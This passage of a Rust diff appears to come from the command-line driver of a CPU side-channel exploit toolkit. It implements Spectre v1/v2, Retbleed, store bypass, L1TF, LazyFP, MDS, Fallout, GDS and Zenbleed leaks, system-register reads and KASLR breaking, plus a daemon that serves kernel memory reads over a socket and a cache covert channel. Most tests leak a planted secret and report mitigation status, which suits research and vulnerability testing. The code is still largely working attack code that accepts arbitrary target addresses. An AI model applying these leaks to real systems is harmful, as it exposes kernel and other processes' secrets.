+            UnixListener::bind(path)
+        }
+        _ => Err(io::Error::new(
+            io::ErrorKind::AddrInUse,
+            format!("{} is in use, is another daemon running?", path.display()),
+        )),
+    }
+}
+
+// serves leaked reads over a unix socket to one client at a time, all with
+// the reader calibrated at startup
+fn daemon(opts: &DaemonOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let reader = make_reader(&opts.reader)?;
+    let server = daemon::Server::new(&reader);
+    let listener = bind_socket(&opts.socket)
+        .map_err(|e| io::Error::new(e.kind(), format!("{}: {}", opts.socket.display(), e)))?;
+    // whoever can connect can read kernel memory
+    fs::set_permissions(&opts.socket, fs::Permissions::from_mode(0o600))?;
+    eprintln!("listening on {}", opts.socket.display());
+    for stream in listener.incoming() {
+        let stream = stream?;
+        // a failed session shouldn't stop the server
+        if let Err(e) = server.serve(&stream, &stream) {
+            eprintln!("client: {}", e);
         }
-        dump_hex(unsafe { start_addr.add(chunk_start) }, &s[..bytes_to_read])
+    }
+    Ok(())
+}
+
+fn demo(reader: ReaderOptions) -> io::Result<()> {
+    static TEST: &'static str = "papa, can you hear me?";
+    dump(&DumpOptions {
+        addr: TEST.as_ptr() as usize,
+        symbol: None,
+        chase: None,
+        pid: None,
+        region: None,
+        binary: None,
+        typed: false,
+        layout: None,
+        system_map: None,
+        phys: false,
+        page_offset: None,
+        allow_mmio: false,
+        len: TEST.len(),
+        out: None,
+        format: DumpFormat::Hex,
+        width: LINE_LEN,
+        group: CHUNK_SIZE,
+        relative_offsets: false,
+        color: None,
+        jobs: 1,
+        reader,
+    })
+}
+
+fn print_latency(name: &str, stats: &LatencyStats) {
+    println!(
+        "{:<5} min {:>5}  p10 {:>5}  median {:>5}  p90 {:>5}  max {:>7}  mean {:>5}",
+        name, stats.min, stats.p10, stats.median, stats.p90, stats.max, stats.mean
+    )
+}
+
+fn print_cache(name: &str, cache: Option<CacheInfo>) {
+    match cache {
+        Some(cache) => println!(
+            "{:<4} {:>6} KiB  {:>2} ways  {:>5} sets  {} byte lines",
+            name,
+            cache.size() / 1024,
+            cache.ways,
+            cache.sets,
+            cache.line_size
+        ),
+        None => println!("{:<4} unknown", name),
+    }
+}
+
+fn calibrate(opts: &CalibrateOptions) -> io::Result<()> {
+    let reader = make_reader(&opts.reader)?;
+    let calibration = reader.calibrate(opts.samples);
+
+    let topology = Topology::current();
+    println!("caches:");
+    print_cache("L1d", topology.l1d);
+    print_cache("L2", topology.l2);
+    print_cache("LLC", topology.llc);
+
+    println!("latency in cycles over {} samples:", opts.samples);
+    print_latency("hit", &calibration.hit);
+    print_latency("miss", &calibration.miss);
+    println!("threshold: {} cycles", calibration.threshold);
+    if calibration.hit.median >= calibration.miss.median {
+        eprintln!(
+            "warning: hits are not faster than misses, the timer is unreliable on this machine"
+        );
+    }
+
+    if let Some(ref path) = opts.save {
+        calibration.save(path)?;
+        eprintln!("saved calibration to {}", path.display());
+    }
+    Ok(())
+}
+
+fn secs(duration: Duration) -> f64 {
+    duration.as_secs() as f64 + duration.subsec_nanos() as f64 * 1e-9
+}
+
+// bytes of a transmission that don't match expected. a length that disagrees
+// counts every byte past the shorter of the two as wrong
+fn covert_errors(transmission: &Transmission, expected: &[u8]) -> usize {
+    let matches = transmission
+        .data
+        .iter()
+        .zip(expected)
+        .filter(|&(received, &expected)| *received == Some(expected))
+        .count();
+    transmission.data.len().max(expected.len()) - matches
+}
+
+// slot boundaries come from the timestamp counter of each end's core, which
+// only line up across cores if the counter is invariant
+fn report_tsc() {
+    if !CpuFeatures::detect().invariant_tsc {
+        eprintln!(
+            "warning: the timestamp counter is not invariant, cores may disagree on where \
+             slots start"
+        );
+    }
+}
+
+// warns if core and peer are hardware threads of one physical core, which
+// share the L1 and L2 caches, so the channel between them doesn't go
+// through the last level cache
+fn report_core_pair(core: usize, peer: usize) {
+    match cpu::thread_siblings(core) {
+        Ok(ref siblings) if siblings.contains(&peer) => eprintln!(
+            "warning: cpus {} and {} share a physical core, the channel between them goes \
+             through its L1 rather than the shared last level cache",
+            core, peer
+        ),
+        Ok(_) => {}
+        Err(e) => eprintln!("could not read the sibling threads of cpu {}: {}", core, e),
+    }
+}
+
+// runs one end of a covert transmission, or both for bench. both ends map
+// the same file, and the receiver reports what arrived on stderr
+fn covert(opts: &CovertOptions) -> io::Result<()> {
+    let path = match opts.file {
+        Some(ref path) => path.clone(),
+        None => env::current_exe()?,
+    };
+
+    if opts.mode == CovertMode::Bench {
+        return covert_bench(opts, &path);
+    }
+    if let Some(core) = opts.cpu {
+        pin(core)?;
+    }
+    if let Some(peer) = opts.peer {
+        report_tsc();
+        if let Some(core) = opts.cpu.or_else(cpu::current_core) {
+            report_core_pair(core, peer);
+        }
+    }
+    // only the receiver has hits to calibrate for
+    let peer = if opts.mode == CovertMode::Recv {
+        opts.peer
+    } else {
+        None
+    };
+    let mut channel = SharedChannel::open(&path, peer)?;
+    eprintln!(
+        "sharing {}, hit threshold: {} cycles, {} cycles per byte",
+        path.display(),
+        channel.calibration().threshold,
+        opts.slot_cycles
+    );
+
+    match opts.mode {
+        CovertMode::Send => {
+            let data = match (opts.test, &opts.message) {
+                (Some(len), _) => covert::test_pattern(len),
+                (None, &Some(ref message)) => message.clone().into_bytes(),
+                (None, &None) => {
+                    let mut data = Vec::new();
+                    io::stdin().read_to_end(&mut data)?;
+                    data
+                }
+            };
+            covert::transmit(&channel, opts.slot_cycles, &data);
+            eprintln!("sent {} bytes", data.len());
+            Ok(())
+        }
+        CovertMode::Recv => {
+            eprintln!("listening for {} seconds", opts.timeout.as_secs());
+            let transmission = covert::listen(&mut channel, opts.slot_cycles, opts.timeout)?;
+            let missing = transmission.data.iter().filter(|byte| byte.is_none()).count();
+            eprintln!(
+                "received {} bytes in {:.3} s, {:.0} B/s, {} bytes with no hit, checksum {}",
+                transmission.data.len(),
+                secs(transmission.elapsed),
+                transmission.bandwidth(),
+                missing,
+                if transmission.intact { "ok" } else { "failed" }
+            );
+            match opts.test {
+                Some(len) => {
+                    let errors = covert_errors(&transmission, &covert::test_pattern(len));
+                    eprintln!(
+                        "errors: {}/{} bytes ({:.2}%)",
+                        errors,
+                        len,
+                        errors as f64 * 100.0 / len.max(1) as f64
+                    );
+                    Ok(())
+                }
+                None => {
+                    let data: Vec<u8> = transmission
+                        .data
+                        .iter()
+                        .map(|byte| byte.unwrap_or(b'?'))
+                        .collect();
+                    let stdout = io::stdout();
+                    let mut out = stdout.lock();
+                    out.write_all(&data)?;
+                    out.flush()
+                }
+            }
+        }
+        CovertMode::Bench => unreachable!(),
+    }
+}
+
+// sends the test pattern from the peer core to this one at halving slot
+// lengths, and prints what each achieves
+fn covert_bench(opts: &CovertOptions, path: &Path) -> io::Result<()> {
+    let core = opts.cpu.unwrap_or(0);
+    pin(core)?;
+    let peer = match opts.peer.or_else(|| cpu::cross_core_peer(core)) {
+        Some(peer) => peer,
+        None => {
+            return Err(io::Error::new(
+                io::ErrorKind::Other,
+                format!("no core outside cpu {}'s physical core to send from", core),
+            ))
+        }
+    };
+    report_tsc();
+    report_core_pair(core, peer);
+
+    let mut receiver = SharedChannel::open(path, Some(peer))?;
+    eprintln!(
+        "sending from cpu {} to cpu {} through {}, hit threshold: {} cycles",
+        peer,
+        core,
+        path.display(),
+        receiver.calibration().threshold
+    );
+
+    let len = opts.test.unwrap_or(1024);
+    let pattern = covert::test_pattern(len);
+    println!("slot cycles       B/s   errors   capacity bit/s");
+    for halvings in 0..5 {
+        let slot_cycles = opts.slot_cycles >> halvings;
+        let transmission = match covert::loopback(
+            &mut receiver,
+            path,
+            peer,
+            slot_cycles,
+            pattern.clone(),
+            opts.timeout,
+        ) {
+            Ok(transmission) => transmission,
+            Err(ref e) if e.kind() == io::ErrorKind::TimedOut => {
+                println!("{:>11}  no transmission received", slot_cycles);
+                continue;
+            }
+            Err(e) => return Err(e),
+        };
+        let error_rate = covert_errors(&transmission, &pattern) as f64 / len.max(1) as f64;
+        let bandwidth = transmission.bandwidth();
+        println!(
+            "{:>11}  {:>8.0}  {:>6.2}%  {:>14.0}",
+            slot_cycles,
+            bandwidth,
+            error_rate * 100.0,
+            bandwidth * covert::capacity(error_rate)
+        );
+    }
+    Ok(())
+}
+
+static SPECTRE_SECRET: &'static str = "The Magic Words are Squeamish Ossifrage.";
+
+// pins as asked, and picks the range opts selects or the built in secret
+fn spectre_target(opts: &SpectreOptions) -> io::Result<(*const u8, usize)> {
+    if let Some(core) = opts.cpu {
+        pin(core)?;
+        eprintln!("pinned to cpu {}", core);
+    }
+    let addr = opts.addr.unwrap_or(SPECTRE_SECRET.as_ptr() as usize) as *const u8;
+    Ok((addr, opts.len.unwrap_or(SPECTRE_SECRET.len())))
+}
+
+fn report_spectre(receiver: &Receiver) {
+    eprintln!("hit threshold: {} cycles", receiver.calibration().threshold);
+    if !receiver.probe_buf_locked() {
+        eprintln!(
+            "warning: could not mlock the probe buffer, raise `ulimit -l` if timings are noisy"
+        );
+    }
+}
+
+// prints len bytes from addr as a hexdump, leaking a line at a time with
+// guess_range, and returns every guess
+fn dump_leaked<F>(addr: *const u8, len: usize, guess_range: F) -> io::Result<Vec<ByteGuess>>
+where
+    F: Fn(*const u8, usize) -> Vec<ByteGuess>,
+{
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    let mut result = Vec::with_capacity(len);
+    for chunk_start in (0..len).step_by(LINE_LEN) {
+        let chunk_addr = addr.wrapping_add(chunk_start);
+        let guesses = guess_range(chunk_addr, min(len - chunk_start, LINE_LEN));
+        dump_hex(&mut out, chunk_addr, &guesses)?;
+        result.extend(guesses)
+    }
+    out.flush()?;
+    Ok(result)
+}
+
+// leaks a range of this process's memory through a mistrained bounds check
+fn spectre_v1(opts: &SpectreOptions) -> io::Result<()> {
+    let (addr, len) = spectre_target(opts)?;
+    let spectre = BoundsCheckBypass::new()?;
+    report_spectre(spectre.receiver());
+    dump_leaked(addr, len, |addr, len| spectre.guess_range(addr, len))?;
+    Ok(())
+}
+
+// leaks a range of this process's memory through a mistrained indirect call
+fn spectre_v2(opts: &SpectreOptions) -> io::Result<()> {
+    let (addr, len) = spectre_target(opts)?;
+    let spectre = BranchTargetInjection::new()?;
+    report_spectre(spectre.receiver());
+    dump_leaked(addr, len, |addr, len| spectre.guess_range(addr, len))?;
+    Ok(())
+}
+
+// leaks a range of this process's memory through a mispredicted return, and
+// with the built in secret, tells whether it leaked
+fn retbleed(opts: &SpectreOptions) -> io::Result<()> {
+    let (addr, len) = spectre_target(opts)?;
+    let status = match mitigations::read_status("retbleed") {
+        Ok(v) => {
+            eprintln!("kernel reports retbleed: {}", v.raw);
+            Some(v.status)
+        }
+        Err(e) => {
+            eprintln!("could not read the retbleed status: {}", e);
+            None
+        }
+    };
+    let spectre = ReturnMispredict::new()?;
+    report_spectre(spectre.receiver());
+    let guesses = dump_leaked(addr, len, |addr, len| spectre.guess_range(addr, len))?;
+    if opts.addr.is_some() {
+        return Ok(());
+    }
+
+    let leaked = guesses
+        .iter()
+        .zip(SPECTRE_SECRET.as_bytes())
+        .filter(|&(guess, &byte)| guess.value == Some(byte))
+        .count();
+    let leaks = leaked >= len / 2;
+    println!("leaked {}/{} bytes through the mispredicted return", leaked, len);
+    println!(
+        "{}",
+        match (leaks, status) {
+            (true, Some(Status::Mitigated(_))) => {
+                "affected: returns in this process mispredict, the kernel's mitigation only \
+                 protects its own returns"
+            }
+            (true, _) => "affected: returns are steered by a mistrained prediction",
+            (false, Some(Status::NotAffected)) => "not affected: the CPU doesn't report retbleed",
+            (false, _) => "nothing leaked",
+        }
+    );
+    Ok(())
+}
+
+// the kernel's verdict on the machine, and whether this process speculates
+// past stores
+fn report_store_bypass() -> Option<StoreBypassControl> {
+    match mitigations::read_status("spec_store_bypass") {
+        Ok(v) => eprintln!("kernel reports spec_store_bypass: {}", v.raw),
+        Err(e) => eprintln!("could not read the spec_store_bypass status: {}", e),
+    }
+    match mitigations::store_bypass() {
+        Ok(state) => {
+            eprintln!("store bypass for this process: {:?}", state);
+            Some(state)
+        }
+        Err(e) => {
+            eprintln!("could not read the store bypass control: {}", e);
+            None
+        }
+    }
+}
+
+// leaks a secret a victim overwrote, and tells whether SSBD stopped it
+fn spectre_v4(opts: &StoreBypassOptions) -> io::Result<()> {
+    if let Some(core) = opts.cpu {
+        pin(core)?;
+        eprintln!("pinned to cpu {}", core);
+    }
+    if opts.ssbd {
+        mitigations::disable_store_bypass().map_err(|e| {
+            io::Error::new(e.kind(), format!("could not turn on SSBD: {}", e))
+        })?;
+    }
+    let state = report_store_bypass();
+
+    let secret = match opts.message {
+        Some(ref message) => message.as_bytes(),
+        None => SPECTRE_SECRET.as_bytes(),
+    };
+    let spectre = StoreBypass::new()?;
+    report_spectre(spectre.receiver());
+
+    let guesses = spectre.guess_range(secret);
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    for (i, line) in guesses.chunks(LINE_LEN).enumerate() {
+        dump_hex(&mut out, secret.as_ptr().wrapping_add(i * LINE_LEN), line)?
+    }
+    out.flush()?;
+
+    let leaked = guesses
+        .iter()
+        .zip(secret)
+        .filter(|&(guess, &byte)| guess.value == Some(byte))
+        .count();
+    let leaks = leaked >= secret.len() / 2;
+    println!(
+        "leaked {}/{} overwritten bytes, store bypass {}",
+        leaked,
+        secret.len(),
+        if leaks { "works" } else { "is blocked" }
+    );
+    match state {
+        Some(StoreBypassControl::Disabled { .. }) if leaks => {
+            eprintln!("warning: SSBD is on but the secret still leaked")
+        }
+        Some(StoreBypassControl::Disabled { .. }) => println!("SSBD blocks the attack"),
+        Some(StoreBypassControl::Enabled { controllable: true }) if leaks => {
+            println!("run with `--ssbd` to check whether SSBD blocks it")
+        }
+        _ => {}
+    }
+    Ok(())
+}
+
+// reads a secret back through a page that isn't present, and tells whether
+// the kernel's mitigation is what stopped it
+fn l1tf(opts: &L1tfOptions) -> io::Result<()> {
+    if let Some(core) = opts.cpu {
+        pin(core)?;
+        eprintln!("pinned to cpu {}", core);
+    }
+    let status = match mitigations::read_status("l1tf") {
+        Ok(v) => {
+            eprintln!("kernel reports l1tf: {}", v.raw);
+            Some(v.status)
+        }
+        Err(e) => {
+            eprintln!("could not read the l1tf status: {}", e);
+            None
+        }
+    };
+
+    let secret = match opts.message {
+        Some(ref message) => message.as_bytes(),
+        None => SPECTRE_SECRET.as_bytes(),
+    };
+    let suppression = opts.suppression.unwrap_or_else(Suppression::detect);
+    let reader = TerminalFault::with_suppressor(suppression, secret)?;
+    eprintln!(
+        "suppression: {:?}, hit threshold: {} cycles",
+        suppression,
+        reader.receiver().calibration().threshold
+    );
+
+    let guesses = reader.guess_secret();
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    for (i, line) in guesses.chunks(LINE_LEN).enumerate() {
+        dump_hex(&mut out, reader.absent_addr().wrapping_add(i * LINE_LEN), line)?
+    }
+    out.flush()?;
+
+    let leaked = guesses
+        .iter()
+        .zip(secret)
+        .filter(|&(guess, &byte)| guess.value == Some(byte))
+        .count();
+    let leaks = leaked >= secret.len() / 2;
+    println!(
+        "leaked {}/{} bytes through the page that isn't present",
+        leaked,
+        secret.len()
+    );
+    println!(
+        "{}",
+        match (leaks, status) {
+            (true, _) => "vulnerable: L1 data leaks through entries that aren't present",
+            (false, Some(Status::NotAffected)) => "not affected: the CPU doesn't leak L1 data",
+            (false, Some(Status::Mitigated(ref how))) if how.contains("PTE Inversion") => {
+                "blocked: PTE inversion points the entry away from the secret"
+            }
+            (false, _) => "nothing leaked",
+        }
+    );
+    Ok(())
+}
+
+// reads a secret another thread on this core leaves in its SSE registers,
+// and tells whether the kernel could have switched FPU state lazily
+fn lazy_fp(opts: &LazyFpOptions) -> io::Result<()> {
+    let core = match opts.cpu.or_else(cpu::current_core) {
+        Some(core) => core,
+        None => {
+            return Err(io::Error::new(
+                io::ErrorKind::Other,
+                "could not tell which cpu this is, pass `--cpu`",
+            ))
+        }
+    };
+    pin(core)?;
+    eprintln!("sampling and victim on cpu {}", core);
+    let lazy = match lazy_fp::lazy_switching_possible() {
+        Ok(lazy) => {
+            eprintln!("kernel can switch FPU state lazily: {}", yes_no(lazy));
+            Some(lazy)
+        }
+        Err(e) => {
+            eprintln!("could not tell how the kernel switches FPU state: {}", e);
+            None
+        }
+    };
+
+    let secret = match opts.message {
+        Some(ref message) => message.as_bytes(),
+        None => &SPECTRE_SECRET.as_bytes()[..lazy_fp::MAX_SECRET_LEN],
+    };
+    let suppression = opts.suppression.unwrap_or_else(Suppression::detect);
+    let sampler = LazyFpSampler::with_suppressor(suppression, secret, core)?;
+    eprintln!(
+        "suppression: {:?}, hit threshold: {} cycles",
+        suppression,
+        sampler.receiver().calibration().threshold
+    );
+
+    let guesses = sampler.guess_secret();
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    for (i, line) in guesses.chunks(LINE_LEN).enumerate() {
+        dump_hex(&mut out, sampler.secret_addr().wrapping_add(i * LINE_LEN), line)?
+    }
+    out.flush()?;
+
+    let leaked = guesses
+        .iter()
+        .zip(secret)
+        .filter(|&(guess, &byte)| guess.value == Some(byte))
+        .count();
+    let leaks = leaked >= secret.len() / 2;
+    println!("leaked {}/{} bytes of the victim's register", leaked, secret.len());
+    println!(
+        "{}",
+        match (leaks, lazy) {
+            (true, _) => "vulnerable: stale FPU state leaks across context switches",
+            (false, Some(false)) => "not affected: the kernel switches FPU state eagerly",
+            (false, _) => "nothing leaked",
+        }
+    );
+    Ok(())
+}
+
+// leaks a secret a thread on the sibling hyperthread keeps loading, through
+// the fill buffers the two share
+fn mds(opts: &MdsOptions) -> io::Result<()> {
+    let core = match opts.cpu.or_else(cpu::current_core) {
+        Some(core) => core,
+        None => {
+            return Err(io::Error::new(
+                io::ErrorKind::Other,
+                "could not tell which cpu this is, pass `--cpu`",
+            ))
+        }
+    };
+    pin(core)?;
+    let victim = match opts.victim {
+        Some(victim) => victim,
+        None => cpu::thread_siblings(core)?
+            .into_iter()
+            .find(|&sibling| sibling != core)
+            .ok_or_else(|| {
+                io::Error::new(
+                    io::ErrorKind::Other,
+                    format!("cpu {} has no hyperthread sibling to run the victim on", core),
+                )
+            })?,
+    };
+    report_core_pair(core, victim);
+    eprintln!("sampling on cpu {}, victim on cpu {}", core, victim);
+    match mitigations::read_status("mds") {
+        Ok(v) => eprintln!("kernel reports mds: {}", v.raw),
+        Err(e) => eprintln!("could not read the mds status: {}", e),
+    }
+
+    let secret = match opts.message {
+        Some(ref message) => message.as_bytes(),
+        None => &SPECTRE_SECRET.as_bytes()[..mds::MAX_SECRET_LEN.min(SPECTRE_SECRET.len())],
+    };
+    let suppression = opts.suppression.unwrap_or_else(Suppression::detect);
+    let sampler = FillBufferSampler::with_suppressor(suppression, secret, victim)?;
+    eprintln!(
+        "suppression: {:?}, hit threshold: {} cycles",
+        suppression,
+        sampler.receiver().calibration().threshold
+    );
+
+    let guesses = sampler.guess_secret();
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    for (i, line) in guesses.chunks(LINE_LEN).enumerate() {
+        dump_hex(&mut out, sampler.secret_addr().wrapping_add(i * LINE_LEN), line)?
+    }
+    out.flush()?;
+
+    let leaked = guesses
+        .iter()
+        .zip(secret)
+        .filter(|&(guess, &byte)| guess.value == Some(byte))
+        .count();
+    println!("leaked {}/{} bytes from the fill buffers", leaked, secret.len());
+    Ok(())
+}
+
+// plants a pattern with stores and samples it back from the store buffer,
+// and tells how much of what was sampled matches it
+fn fallout(opts: &FalloutOptions) -> io::Result<()> {
+    if let Some(core) = opts.cpu {
+        pin(core)?;
+        eprintln!("pinned to cpu {}", core);
+    }
+    match mitigations::read_status("mds") {
+        Ok(v) => eprintln!("kernel reports mds: {}", v.raw),
+        Err(e) => eprintln!("could not read the mds status: {}", e),
+    }
+
+    let pattern = match opts.message {
+        Some(ref message) => message.as_bytes(),
+        None => SPECTRE_SECRET.as_bytes(),
+    };
+    if pattern.len() > PAGE_SIZE {
+        return Err(io::Error::new(
+            io::ErrorKind::InvalidInput,
+            "the pattern has to fit in a page",
+        ));
+    }
+    let source = if opts.kernel {
+        StoreSource::Kernel
+    } else {
+        StoreSource::User
+    };
+    let suppression = opts.suppression.unwrap_or_else(Suppression::detect);
+    let sampler = StoreBufferSampler::with_suppressor(suppression)?;
+    eprintln!(
+        "suppression: {:?}, stores by: {:?}, hit threshold: {} cycles",
+        suppression,
+        source,
+        sampler.receiver().calibration().threshold
+    );
+
+    let samples = sampler.sample_pattern(source, pattern);
+    let guesses: Vec<ByteGuess> = samples.iter().map(|sample| sample.guess).collect();
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    for (i, line) in guesses.chunks(LINE_LEN).enumerate() {
+        dump_hex(&mut out, sampler.faulting_addr().wrapping_add(i * LINE_LEN), line)?
+    }
+    out.flush()?;
+
+    let total: usize = samples.iter().map(|sample| sample.guess.rounds).sum();
+    let hits: usize = samples.iter().map(|sample| sample.hits).sum();
+    let matches: usize = samples.iter().map(|sample| sample.matches).sum();
+    let leaked = samples
+        .iter()
+        .filter(|sample| sample.guess.value == Some(sample.planted))
+        .count();
+    let percent = |count: usize| 100.0 * count as f64 / total.max(1) as f64;
+    println!("leaked {}/{} bytes from the store buffer", leaked, pattern.len());
+    println!(
+        "{}/{} samples ({:.1}%) decoded to a value, {} ({:.1}%) to the planted byte",
+        hits,
+        total,
+        percent(hits),
+        matches,
+        percent(matches)
+    );
+    Ok(())
+}
+
+// samples a secret back from a vector register with faulting gathers, on
+// models gather data sampling affects, and tells whether the microcode
+// mitigation stopped it
+fn gds(opts: &GdsOptions) -> io::Result<()> {
+    if let Some(core) = opts.cpu {
+        pin(core)?;
+        eprintln!("pinned to cpu {}", core);
+    }
+    let model = CpuModel::detect();
+    eprintln!(
+        "cpu: {:?} family 0x{:x} model 0x{:x} stepping {}",
+        model.vendor, model.family, model.model, model.stepping
+    );
+    let status = match mitigations::read_status("gather_data_sampling") {
+        Ok(v) => {
+            eprintln!("kernel reports gather_data_sampling: {}", v.raw);
+            Some(v.status)
+        }
+        Err(e) => {
+            eprintln!("could not read the gather_data_sampling status: {}", e);
+            None
+        }
+    };
+    if !gds::affected(&model) && !opts.force {
+        println!(
+            "not affected: this CPU model isn't known to sample gathers, pass `--force` to try \
+             anyway"
+        );
+        return Ok(());
+    }
+
+    let secret = match opts.message {
+        Some(ref message) => message.as_bytes(),
+        None => &SPECTRE_SECRET.as_bytes()[..gds::MAX_SECRET_LEN.min(SPECTRE_SECRET.len())],
+    };
+    let suppression = opts.suppression.unwrap_or_else(Suppression::detect);
+    let sampler = GatherSampler::with_suppressor(suppression, secret)?;
+    eprintln!(
+        "suppression: {:?}, hit threshold: {} cycles",
+        suppression,
+        sampler.receiver().calibration().threshold
+    );
+
+    let guesses = sampler.guess_secret();
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    for (i, line) in guesses.chunks(LINE_LEN).enumerate() {
+        dump_hex(&mut out, sampler.secret_addr().wrapping_add(i * LINE_LEN), line)?
+    }
+    out.flush()?;
+
+    let leaked = guesses
+        .iter()
+        .zip(secret)
+        .filter(|&(guess, &byte)| guess.value == Some(byte))
+        .count();
+    let leaks = leaked >= secret.len() / 2;
+    println!("leaked {}/{} bytes through faulting gathers", leaked, secret.len());
+    println!(
+        "{}",
+        match (leaks, status) {
+            (true, _) => "vulnerable: faulting gathers return stale vector data",
+            (false, Some(Status::Mitigated(ref how))) if how.contains("Microcode") => {
+                "blocked: the microcode mitigation makes gathers wait for faults"
+            }
+            (false, Some(Status::NotAffected)) => "not affected: the CPU doesn't sample gathers",
+            (false, _) => "nothing leaked",
+        }
+    );
+    Ok(())
+}
+
+// how many distinct leaked halves zenbleed prints
+const ZENBLEED_SHOWN: usize = 16;
+
+// leaks vector register halves through a mispredicted vzeroupper on Zen 2,
+// and tells whether the chicken bit is what stopped it
+fn zenbleed(opts: &ZenbleedOptions) -> io::Result<()> {
+    let model = CpuModel::detect();
+    eprintln!(
+        "cpu: {:?} family 0x{:x} model 0x{:x} stepping {}",
+        model.vendor, model.family, model.model, model.stepping
+    );
+    if !zenbleed::affected(&model) && !opts.force {
+        println!("not affected: this isn't a Zen 2 part, pass `--force` to try anyway");
+        return Ok(());
+    }
+    let core = match opts.cpu.or_else(cpu::current_core) {
+        Some(core) => core,
+        None => {
+            return Err(io::Error::new(
+                io::ErrorKind::Other,
+                "could not tell which cpu this is, pass `--cpu`",
+            ))
+        }
+    };
+    pin(core)?;
+    let victim = match opts.victim {
+        Some(victim) => Some(victim),
+        None => cpu::thread_siblings(core)?
+            .into_iter()
+            .find(|&sibling| sibling != core),
+    };
+    match victim {
+        Some(victim) => eprintln!("sampling on cpu {}, victim on cpu {}", core, victim),
+        None => eprintln!("sampling on cpu {}, no sibling to run a victim on", core),
+    }
+    let chicken_bit = zenbleed::chicken_bit(core);
+    match chicken_bit {
+        Some(set) => eprintln!("DE_CFG chicken bit: {}", if set { "set" } else { "clear" }),
+        None => eprintln!("could not read DE_CFG, the msr driver needs root"),
+    }
+
+    let mut sampler = RegisterFileSampler::new(victim)?;
+    let samples = sampler.sample(opts.attempts);
+    let mut shown: Vec<[u8; 16]> = Vec::new();
+    for half in &samples.leaked {
+        if shown.len() < ZENBLEED_SHOWN && !shown.contains(half) {
+            shown.push(*half)
+        }
+    }
+    for half in &shown {
+        let hex: String = half.iter().map(|byte| format!("{:02x}", byte)).collect();
+        let text: String = half
+            .iter()
+            .map(|&byte| if byte >= 0x20 && byte < 0x7f { byte as char } else { '.' })
+            .collect();
+        println!("{}  {}", hex, text);
+    }
+    println!(
+        "{}/{} attempts leaked, {} of them the victim's marker",
+        samples.leaked.len(),
+        samples.attempts,
+        samples.marked()
+    );
+    println!(
+        "{}",
+        match (samples.leaked.is_empty(), chicken_bit) {
+            (false, _) => "vulnerable: vzeroupper rollback leaks the register file",
+            (true, Some(true)) => "blocked: the DE_CFG chicken bit is set",
+            (true, _) => "nothing leaked, the microcode may carry the fix",
+        }
+    );
+    Ok(())
+}
+
+// the leaked bytes of a register as hex, most significant first, with ??
+// for bytes that didn't leak
+fn format_register(guesses: &[ByteGuess; 8]) -> String {
+    guesses
+        .iter()
+        .rev()
+        .map(|guess| match guess.value {
+            Some(byte) => format!("{:02x}", byte),
+            None => "??".to_owned(),
+        })
+        .collect()
+}
+
+// tries each register opts selects, and tells which ones leak
+fn sysreg(opts: &SysregOptions) -> io::Result<()> {
+    if let Some(core) = opts.cpu {
+        pin(core)?;
+        eprintln!("pinned to cpu {}", core);
+    }
+    let core = opts.cpu.or_else(cpu::current_core).unwrap_or(0);
+    let suppression = opts.suppression.unwrap_or_else(Suppression::detect);
+    let reader = RegisterReader::with_suppressor(suppression)?;
+    eprintln!(
+        "suppression: {:?}, hit threshold: {} cycles",
+        suppression,
+        reader.receiver().calibration().threshold
+    );
+
+    let registers: Vec<(&str, SystemRegister)> = match opts.register {
+        Some((ref name, register)) => vec![(&name[..], register)],
+        None => sysreg::REGISTERS.iter().cloned().collect(),
+    };
+    let mut leaking = Vec::new();
+    for &(name, register) in &registers {
+        let guesses = reader.guess(register);
+        let confidence = guesses
+            .iter()
+            .map(|guess| guess.confidence())
+            .fold(1.0, f64::min);
+        let leaked: Option<u64> = guesses
+            .iter()
+            .rev()
+            .map(|guess| guess.value)
+            .fold(Some(0), |value, byte| Some(value? << 8 | byte? as u64));
+        let known = register.known_value(core);
+        let verdict = match (leaked, known) {
+            (None, _) => "nothing leaked",
+            (Some(leaked), Some(known)) if leaked == known => "leaks",
+            (Some(_), Some(_)) => "wrong value",
+            // a transient read that loses the race forwards 0
+            (Some(0), None) => "nothing leaked",
+            (Some(_), None) => "leaks, unverified",
+        };
+        if verdict.starts_with("leaks") {
+            leaking.push(name);
+        }
+        println!(
+            "{:<20} 0x{}  confidence {:.2}  known {}  {}",
+            name,
+            format_register(&guesses),
+            confidence,
+            known.map_or("unknown".to_owned(), |known| format!("0x{:016x}", known)),
+            verdict
+        );
+    }
+    if leaking.is_empty() {
+        println!("no system register leaks on this machine");
+    } else {
+        println!("leaking: {}", leaking.join(", "));
+    }
+    Ok(())
+}
+
+// finds the kernel's regions with each of the locators opts picks, prints
+// where they start, and with more than one, whether the locators agree
+fn kaslr(opts: &KaslrOptions) -> io::Result<()> {
+    if let Some(core) = opts.cpu {
+        pin(core)?;
+        eprintln!("pinned to cpu {}", core);
+    }
+    if mitigations::kpti_active() == Some(true) {
+        eprintln!(
+            "warning: page table isolation is on, so the kernel is unmapped and won't be found"
+        );
+    }
+    for &region in &opts.regions {
+        let mut scans = Vec::new();
+        for &locator in &opts.locators {
+            eprintln!(
+                "scanning {} slots for the {} with {:?}",
+                region.slots(),
+                region.name,
+                locator
+            );
+            let scan = locator.scan(region, opts.tries)?;
+            eprintln!(
+                "{:?}: {} slots look mapped, threshold {} cycles",
+                locator,
+                scan.mapped().len(),
+                scan.threshold
+            );
+            match scan.base() {
+                Some(base) => println!("{} base ({:?}): 0x{:016x}", region.name, locator, base),
+                None => println!("{} base ({:?}): not found", region.name, locator),
+            }
+            scans.push(scan);
+        }
+        let base = match scans.len() {
+            1 => scans[0].base(),
+            _ => {
+                let agreed = kaslr::cross_check(&scans[0], &scans[1]);
+                if agreed.is_none() {
+                    eprintln!("warning: the locators disagree on the {}", region.name);
+                }
+                agreed
+            }
+        };
+        if let Some(base) = base {
+            println!("  meltdown dump --addr 0x{:x}", base)
+        }
+    }
+    Ok(())
+}
+
+// finds the direct map's candidate bases by timing, then leaks a planted
+// pattern through each to confirm one
+fn find_direct_map(opts: &PhysmapOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
